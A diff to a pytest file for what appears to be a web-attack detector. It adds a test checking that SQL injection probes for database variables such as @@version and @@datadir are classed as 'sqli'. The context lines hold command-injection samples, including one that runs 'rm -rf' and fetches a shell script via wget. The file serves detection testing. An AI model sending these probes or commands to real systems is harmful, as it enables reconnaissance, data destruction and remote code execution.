@@ -279,6 +279,18 @@ def test_thinkphp_s_routing_run_as_code_is_php_injection(target):
 
 
 @pytest.mark.parametrize("target", [
+    "/?id=@@version", "/?id=1%20and%20@@version_compile_os%20like%20%27lin%25%27",
+    "/?id=convert(int,@@version)", "/?id=1+procedure+analyse(@@datadir)",
+    "/?x=@@global.secure_file_priv",
+])
+def test_the_sql_server_s_own_variables_asked_for_are_sqli(target):
+    """@@version (and @@datadir, @@hostname ...), the first thing an injection asks the
+    database, passed as an ordinary request unless a union or select came with it."""
+    assert "sqli" in patterns.target_categories(target.encode())
+    assert patterns.target_categories(b"/?s=surat+ke+info@@pn.go.id") == ()
+
+
+@pytest.mark.parametrize("target", [
     "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a",
     "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
 ])
